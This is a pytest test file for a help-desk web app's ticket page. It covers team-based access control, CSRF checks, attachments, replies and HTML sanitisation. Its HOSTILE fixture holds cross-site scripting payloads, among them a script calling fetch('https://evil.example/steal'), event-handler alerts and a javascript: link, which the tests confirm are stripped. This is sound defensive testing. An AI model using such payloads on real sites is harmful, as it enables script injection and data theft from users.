"""A ticket in the web desk: the thread, hostile HTML in a sandbox, attachments, actions.

Mail comes in through ``ingest``; agents log in with the login form
(``tests.webdesk``); replies leave through the outbox to the real aiosmtpd relay
(``relay``). Every action must be the one the CLI and the mail commands take: the
tests read the events and the mail that arrived. Runs on SQLite and PostgreSQL.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from mailgate import intake, outbox, store
from mailgate.admin import tickets as admin
from mailgate.context import Context
from tests.conftest import open_gateway
from tests.relay import Relay
from tests.support import compose, config_data, load_config, write_config
from tests.webdesk import client_for, csrf, login

HOSTILE = (
    "<p>Hello <b>desk</b></p>"
    "<script>fetch('https://evil.example/steal')</script>"
    '<img src="https://tracker.example/pixel.png" onerror="alert(1)">'
    '<a href="javascript:alert(2)">click me</a>'
    '<a href="https://bank.example/help" onclick="alert(3)">help</a>'
    '<div style="background:url(https://evil.example/bg)">styled</div>'
    "<iframe src=\"https://evil.example/\"></iframe><form action=\"https://evil.example\"><input></form>"
)  # fmt: skip
PDF = b"%PDF-1.4\n" + bytes(range(256)) * 40


def ingest(ctx: Context, **mail: Any) -> int:
    outcome = intake.ingest(ctx, compose(**mail), source="pipe")
    assert outcome.ticket is not None, outcome
    return int(outcome.ticket)


def agent(ctx: Context, key: str) -> TestClient:
    client = client_for(ctx)
    login(client, key)
    return client


def detail(ctx: Context, number: int) -> dict[str, Any]:
    return admin.detail(ctx.config, number)


def state(ctx: Context, number: int) -> tuple[Any, ...]:
    """What an action could change: fields, thread length, events."""
    t = detail(ctx, number)
    return (t["status"], t["priority"], t["team"], t["assignee"], len(t["messages"]),
            len(t["events"]), t["links"])  # fmt: skip


def ids(html: str, kind: str) -> list[int]:
    return [int(x) for x in re.findall(rf"/{kind}/(\d+)", html)]


@pytest.fixture
def tickets(ctx: Context) -> dict[str, int]:
    return {
        "mine": ingest(
            ctx,
            subject="Receipt and a strange mail",
            body="See the receipt.\n",
            html=HOSTILE,
            attachments=[("Kassenbeleg Mai – ü.pdf", "application/pdf", PDF)],
        ),
        "banking": ingest(
            ctx,
            to="banking@example.org",
            subject="Banking secret",
            body="Account 1234.\n",
            html="<p>secret</p>",
            attachments=[("statement.pdf", "application/pdf", b"%PDF-1.4 secret")],
        ),
    }


def test_a_ticket_of_another_team_is_404_like_one_that_does_not_exist(
    ctx: Context, tickets: dict[str, int]
) -> None:
    carol, alice = agent(ctx, "carol"), agent(ctx, "alice")
    hidden = tickets["banking"]
    shown = carol.get(f"/tickets/{hidden}")
    assert shown.status_code == 200 and "Banking secret" in shown.text
    (message,) = ids(shown.text, "messages")[:1]
    (attachment,) = ids(shown.text, "attachments")[:1]
    missing = alice.get("/tickets/999999999")
    assert missing.status_code == 404
    for url in (
        f"/tickets/{hidden}",
        f"/tickets/{hidden}/messages/{message}/html",
        f"/tickets/{hidden}/attachments/{attachment}",
    ):
        answer = alice.get(url)
        assert answer.status_code == 404, url
        assert answer.text == missing.text, url
        assert "secret" not in answer.text
    # Her own ticket's URL does not reach another ticket's message or file either.
    own = tickets["mine"]
    assert alice.get(f"/tickets/{own}/messages/{message}/html").status_code == 404
    assert alice.get(f"/tickets/{own}/attachments/{attachment}").status_code == 404
    # Nor can she act on it: with a valid CSRF token, every action is 404 and changes nothing.
    before = state(ctx, hidden)
    token = csrf(alice)
    for action, field in [("reply", {"text": "hi"}), ("note", {"text": "n"}),
                          ("assign", {"assignee": "alice"}), ("team", {"team": "level1"}),
                          ("priority", {"priority": "low"}), ("status", {"status": "closed"}),
                          ("merge", {"target": str(own)})]:  # fmt: skip
        answer = alice.post(f"/tickets/{hidden}/{action}", data={"csrf": token, **field})
        assert answer.status_code == 404 and answer.text == missing.text, action
    # …and cannot merge her ticket into it (a ticket she may not see is one that is not there).
    refused = alice.post(f"/tickets/{own}/merge", data={"csrf": token, "target": str(hidden)})
    assert refused.status_code == 400 and f"no ticket #{hidden}" in refused.text
    assert state(ctx, hidden) == before
    # Assigned to her, she may see it.
    admin.assign(ctx, hidden, "alice", "admin:cli")
    assert alice.get(f"/tickets/{hidden}").status_code == 200


def test_the_page_shows_the_thread_in_order_with_notes_events_and_sla(
    ctx: Context, tickets: dict[str, int]
) -> None:
    number = tickets["mine"]
    admin.note(ctx, number, "bob", "Called the customer.")
    admin.set_priority(ctx, number, "high", "admin:cli")
    page = agent(ctx, "alice").get(f"/tickets/{number}")
    assert page.status_code == 200
    text = page.text
    assert "carla@customer.example" in text and "Receipt and a strange mail" in text
    assert text.index("See the receipt.") < text.index("Called the customer.")
    assert "kind-note" in text and "kind-customer" in text
    assert "normal → high" in text  # the event, in the timeline
    # The customer's HTML is only in the sandboxed frame, never in the page itself.
    assert re.search(r'<iframe class="mail-html" name="frame-\d+" sandbox src=', text)
    assert "<script" not in text and "tracker.example" not in text and "onerror" not in text


def test_hostile_html_is_sanitised_and_served_with_a_csp_that_allows_no_script(
    ctx: Context, tickets: dict[str, int]
) -> None:
    alice = agent(ctx, "alice")
    number = tickets["mine"]
    (message,) = ids(alice.get(f"/tickets/{number}").text, "messages")[:1]
    frame = alice.get(f"/tickets/{number}/messages/{message}/html")
    assert frame.status_code == 200
    assert frame.headers["content-type"] == "text/html; charset=utf-8"
    csp = frame.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "img-src data: cid:;" in csp and "sandbox" in csp
    assert "script-src" not in csp and "https:" not in csp
    assert frame.headers["x-content-type-options"] == "nosniff"
    assert frame.headers["x-frame-options"] == "SAMEORIGIN"  # our page may frame it
    body = frame.text.lower()
    assert "<b>desk</b>" in body and "click me" in body and "help" in body
    for bad in ("<script", "onerror", "onclick", "javascript:", "<iframe", "<form", "style=",
                "evil.example"):  # fmt: skip
        assert bad not in body, bad
    # The remote image is in the markup, but the CSP forbids loading it until asked.
    assert "https://tracker.example/pixel.png" in body
    images = alice.get(f"/tickets/{number}/messages/{message}/html?images=1")
    assert "img-src https: http: data:" in images.headers["content-security-policy"]
    assert "sandbox" in images.headers["content-security-policy"]
    assert "<script" not in images.text.lower()


def test_an_attachment_downloads_with_identical_bytes_and_safe_headers(
    ctx: Context, tickets: dict[str, int]
) -> None:
    alice = agent(ctx, "alice")
    number = tickets["mine"]
    page = alice.get(f"/tickets/{number}")
    (attachment,) = ids(page.text, "attachments")
    download = alice.get(f"/tickets/{number}/attachments/{attachment}")
    assert download.status_code == 200
    assert download.content == PDF
    assert download.headers["content-type"] == "application/pdf"
    assert download.headers["x-content-type-options"] == "nosniff"
    disposition = download.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="')
    assert "filename*=UTF-8''Kassenbeleg%20Mai%20%E2%80%93%20%C3%BC.pdf" in disposition
    assert disposition.isascii() and "\n" not in disposition
    assert alice.get(f"/tickets/{number}/attachments/999999").status_code == 404


def test_a_reply_from_the_desk_reaches_the_customer_with_its_files(
    smtp_ctx: Context, relay: Relay
) -> None:
    ctx = smtp_ctx
    number = ingest(ctx, subject="Where is my card?", body="It did not arrive.\n")
    outbox.deliver(ctx.config)
    relay.received.clear()
    alice = agent(ctx, "alice")
    answer = alice.post(
        f"/tickets/{number}/reply",
        data={"csrf": csrf(alice), "text": "Hello Carla,\n\nyour card is on its way.\n"},
        files=[
            ("files", ("tracking slip.pdf", PDF, "application/pdf")),
            ("files", ("notes.txt", b"line one\n", "text/plain")),
        ],
    )
    assert answer.status_code == 303
    assert answer.headers["location"] == f"/tickets/{number}?done=reply"
    assert "Your reply was sent" in alice.get(answer.headers["location"]).text
    outbox.deliver(ctx.config)
    (mail,) = [r.message for r in relay.received if "carla@customer.example" in r.rcpt_tos]
    body = mail.get_body(("plain",))
    assert body is not None and "your card is on its way." in body.get_content()
    files = {p.get_filename(): p.get_content() for p in mail.iter_attachments()}
    assert files == {"tracking slip.pdf": PDF, "notes.txt": "line one\n"}
    t = detail(ctx, number)
    (reply,) = [x for x in t["messages"] if x["kind"] == "agent" and x["direction"] == "in"]
    assert reply["from"] == "alice@example.org"
    assert {a["filename"] for a in reply["attachments"]} == {"tracking slip.pdf", "notes.txt"}
    by_alice = {(e["kind"], e["new"]) for e in t["events"] if e["actor"] == "agent:alice"}
    assert {("agent_reply", ""), ("status", "open")} <= by_alice, t["events"]


def test_actions_are_the_cli_actions_with_the_agent_as_actor(
    ctx: Context, tickets: dict[str, int]
) -> None:
    alice = agent(ctx, "alice")
    number = tickets["mine"]
    token = csrf(alice)

    def post(action: str, **form: str) -> Any:
        answer = alice.post(f"/tickets/{number}/{action}", data={"csrf": token, **form})
        assert answer.status_code == 303, answer.text
        return answer.headers["location"]

    assert post("note", text="Checked the receipt.") == f"/tickets/{number}?done=note"
    assert post("assign", assignee="bob") == f"/tickets/{number}?done=assign"
    assert post("priority", priority="high") == f"/tickets/{number}?done=priority"
    assert post("status", status="pending") == f"/tickets/{number}?done=status"
    assert post("status", status="pending") == f"/tickets/{number}?done=unchanged"
    assert post("team", team="sysadmins") == f"/tickets/{number}?done=team"
    t = detail(ctx, number)
    assert (t["assignee"], t["priority"], t["status"], t["team"]) == (
        "bob", "high", "pending", "sysadmins",
    )  # fmt: skip
    (note,) = [x for x in t["messages"] if x["kind"] == "note"]
    assert note["text"].startswith("Checked the receipt.")
    changes = {(e["kind"], e["new"]) for e in t["events"] if e["actor"] == "agent:alice"}
    assert {("note", ""), ("assignee", "bob"), ("priority", "high"), ("status", "pending"),
            ("team", "sysadmins")} <= changes, t["events"]  # fmt: skip
    # Moved to a team she is not in and assigned to bob, the ticket is no longer hers to see.
    assert alice.get(f"/tickets/{number}").status_code == 404


def test_merge_redirects_to_the_ticket_it_went_into(ctx: Context) -> None:
    first = ingest(ctx, subject="Card lost", body="My card is gone.\n")
    second = ingest(ctx, sender="Carla <carla@customer.example>", subject="Card lost again")
    alice = agent(ctx, "alice")
    answer = alice.post(
        f"/tickets/{second}/merge", data={"csrf": csrf(alice), "target": f"#{first}"}
    )
    assert (
        answer.status_code == 303 and answer.headers["location"] == f"/tickets/{first}?done=merge"
    )
    moved = alice.get(f"/tickets/{second}")
    assert moved.status_code == 303 and moved.headers["location"] == f"/tickets/{first}"
    assert {"kind": "merged_into", "ticket": first} in detail(ctx, second)["links"]


def test_a_mistake_is_the_page_with_one_line_400_and_nothing_changed(
    ctx: Context, tickets: dict[str, int]
) -> None:
    alice = agent(ctx, "alice")
    number = tickets["mine"]
    before = state(ctx, number)
    token = csrf(alice)
    for action, form, line in [
        ("status", {"status": "done"}, "unknown status 'done'"),
        ("priority", {"priority": "urgent"}, "unknown priority 'urgent'"),
        ("team", {"team": "marketing"}, "no team 'marketing' in the config"),
        ("assign", {"assignee": "mallory"}, "no agent 'mallory' in the config"),
        ("reply", {"text": "   "}, "the reply is empty"),
        ("note", {"text": ""}, "the note is empty"),
        ("merge", {"target": "soon"}, "merge: not a ticket number: 'soon'"),
        ("merge", {"target": str(number)}, ""),
        ("reply", {"text": "Hi\n#answer nosuch\n"}, "'#answer nosuch'"),
    ]:
        answer = alice.post(f"/tickets/{number}/{action}", data={"csrf": token, **form})
        assert answer.status_code == 400, (action, answer.text[-500:])
        errors = re.findall(r'<p class="error" role="alert">(.*?)</p>', answer.text, re.S)
        assert len(errors) == 1 and "\n" not in errors[0], errors
        assert line in html.unescape(errors[0]), errors
        assert "Traceback" not in answer.text
    kept = alice.post(f"/tickets/{number}/reply", data={"csrf": token, "text": "Hi\n#answer x\n"})
    assert "Hi\n#answer x" in kept.text  # what the agent typed is not lost
    assert state(ctx, number) == before


def test_a_post_without_a_valid_csrf_token_is_403_and_changes_nothing(
    ctx: Context, tickets: dict[str, int]
) -> None:
    alice = agent(ctx, "alice")
    number = tickets["mine"]
    before = state(ctx, number)
    for data in ({}, {"csrf": ""}, {"csrf": "forged"}):
        for action in ("reply", "note", "status", "assign", "merge"):
            answer = alice.post(
                f"/tickets/{number}/{action}",
                data={**data, "text": "x", "status": "closed", "assignee": "alice", "target": "1"},
            )
            assert answer.status_code == 403, (action, data)
    assert state(ctx, number) == before
    # Not logged in at all: to the login page, nothing changed.
    stranger = client_for(ctx)
    assert stranger.post(f"/tickets/{number}/note", data={"text": "x"}).status_code in (303, 403)
    assert state(ctx, number) == before


@pytest.fixture
def answers_ctx(tmp_path: Path, database_url: str) -> Iterator[Context]:
    folder = tmp_path / "answers"
    folder.mkdir()
    (folder / "thanks.md").write_text("Thank you, {{ requester.name }}, about {{ ticket.tag }}.\n")
    data = config_data(tmp_path, database_url, {"answers": {"dir": str(folder)}})
    yield open_gateway(load_config(write_config(tmp_path / "answers.toml", data)))
    store.close()


def test_a_canned_answer_fills_the_reply_for_this_ticket(answers_ctx: Context) -> None:
    ctx = answers_ctx
    number = ingest(ctx, subject="Thanks", body="All good now.\n")
    alice = agent(ctx, "alice")
    page = alice.get(f"/tickets/{number}")
    assert '<option value="thanks">' in page.text
    filled = alice.get(f"/tickets/{number}?answer=thanks")
    (text,) = re.findall(r'<textarea name="text" rows="8"[^>]*>(.*?)</textarea>', filled.text, re.S)
    assert text == f"Thank you, Carla Customer, about [EB#{number}]."
    unknown = alice.get(f"/tickets/{number}?answer=nosuch")
    assert "no answer &#39;nosuch&#39;" in unknown.text
    # #answer NAME in a reply is expanded as in a reply by mail.
    answer = alice.post(
        f"/tickets/{number}/reply", data={"csrf": csrf(alice), "text": "Hi,\n#answer thanks\n"}
    )
    assert answer.status_code == 303
    (reply,) = [
        x
        for x in detail(ctx, number)["messages"]
        if x["kind"] == "agent" and x["direction"] == "in"
    ]
    assert f"Thank you, Carla Customer, about [EB#{number}]." in reply["text"]
